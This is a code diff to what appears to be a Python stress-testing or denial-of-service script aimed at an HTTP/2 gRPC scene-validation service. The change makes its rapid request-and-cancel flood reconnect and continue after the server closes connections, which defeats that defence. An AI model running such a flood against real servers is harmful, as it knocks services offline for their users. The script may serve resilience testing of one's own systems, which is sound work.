@@ -229,21 +229,24 @@ def attack_messages(arguments):
 def attack_cancel(arguments):
     """Asks for checks of a scene and cancels them, as fast as the server reads."""
     request = scene_service_pb2.ValidateSceneRequest(name=arguments.name).SerializeToString()
-    connections = [Http2Connection(arguments.address, "/nerf.v1.SceneService/ValidateScene", arguments.token)
-                   for _ in range(arguments.count)]
-    deadline, n = time.monotonic() + arguments.seconds, 0
+    def connect():
+        return Http2Connection(arguments.address, "/nerf.v1.SceneService/ValidateScene", arguments.token)
+    connections = [connect() for _ in range(arguments.count)]
+    deadline, n, n_closed = time.monotonic() + arguments.seconds, 0, 0
     while time.monotonic() < deadline:
-        for connection in connections:
+        for i, connection in enumerate(connections):
             if not connection.step():
-                print("the server has closed a connection")
-                return
+                connection.socket.close()
+                connections[i] = connect()
+                n_closed += 1
+                continue
             if len(connection.out) > 4096:
                 continue
             for _ in range(10):
                 connection.call_and_cancel(request, n_open=8)
                 n += 1
         time.sleep(0.001)
-    print(f"{n} checks, each cancelled")
+    print(f"{n} checks, each cancelled, {n_closed} connections closed")
 
 
 def attack_requests(arguments):
